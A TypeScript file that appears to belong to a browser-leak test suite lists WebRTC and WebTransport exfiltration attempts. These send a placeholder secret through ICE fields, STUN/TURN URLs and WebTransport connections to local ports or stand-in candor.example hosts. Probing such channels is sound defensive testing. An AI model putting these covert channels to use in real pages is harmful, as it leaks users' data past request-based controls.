import type { Attack } from './attack.ts';

/** WebRTC and WebTransport: what is no request. */
export const realTimeAttacks: readonly Attack[] = [
  {
    name: 'WebRTC: what the page knows as ice-ufrag, to a UDP and a TCP candidate',
    seen: 'udp',
    run: ({ udp, tcp }) =>
      peer([], (fingerprint) =>
        [
          'v=0',
          'o=- 1 1 IN IP4 127.0.0.1',
          's=-',
          't=0 0',
          'a=group:BUNDLE 0',
          'm=application 9 UDP/DTLS/SCTP webrtc-datachannel',
          'c=IN IP4 0.0.0.0',
          'a=ice-ufrag:WHATTHEPAGEKNOWS',
          'a=ice-pwd:0123456789012345678901',
          `a=fingerprint:sha-256 ${fingerprint}`,
          'a=setup:active',
          'a=mid:0',
          'a=sctp-port:5000',
          `a=candidate:1 1 udp 2113937151 127.0.0.1 ${udp} typ host`,
          `a=candidate:2 1 tcp 2113937151 127.0.0.1 ${tcp} typ host tcptype passive`,
          '',
        ].join('\r\n'),
      ),
  },
  { name: 'WebRTC: STUN', seen: 'udp', run: ({ udp }) => peer([{ urls: `stun:127.0.0.1:${udp}` }]) },
  {
    name: 'WebRTC: STUN by a name',
    seen: 'name',
    run: () => peer([{ urls: 'stun:what-the-page-knows.stun.candor.example:3478' }]),
  },
  {
    name: 'WebRTC: TURN over UDP',
    seen: 'udp',
    run: ({ udp }) => peer([{ urls: `turn:127.0.0.1:${udp}?transport=udp`, username: 'u', credential: 'x' }]),
  },
  {
    name: 'WebRTC: TURN over TCP',
    seen: 'tcp',
    run: ({ tcp }) => peer([{ urls: `turn:127.0.0.1:${tcp}?transport=tcp`, username: 'u', credential: 'x' }]),
  },
  {
    name: 'WebRTC: TURN over TLS',
    seen: 'tcp',
    run: ({ tcp }) => peer([{ urls: `turns:127.0.0.1:${tcp}?transport=tcp`, username: 'u', credential: 'x' }]),
  },
  {
    name: 'WebRTC: TURN over TCP by a name',
    seen: 'name',
    run: () =>
      peer([
        { urls: 'turn:what-the-page-knows.turn.candor.example:3478?transport=tcp', username: 'u', credential: 'x' },
      ]),
  },
  {
    name: 'WebTransport',
    seen: 'udp',
    run: ({ udp }) => new WebTransport(`https://127.0.0.1:${udp}/`).ready.catch(() => {}),
  },
  {
    name: 'WebTransport to a name',
    seen: 'name',
    run: () => new WebTransport('https://what-the-page-knows.quic.candor.example:4433/').ready.catch(() => {}),
  },
];
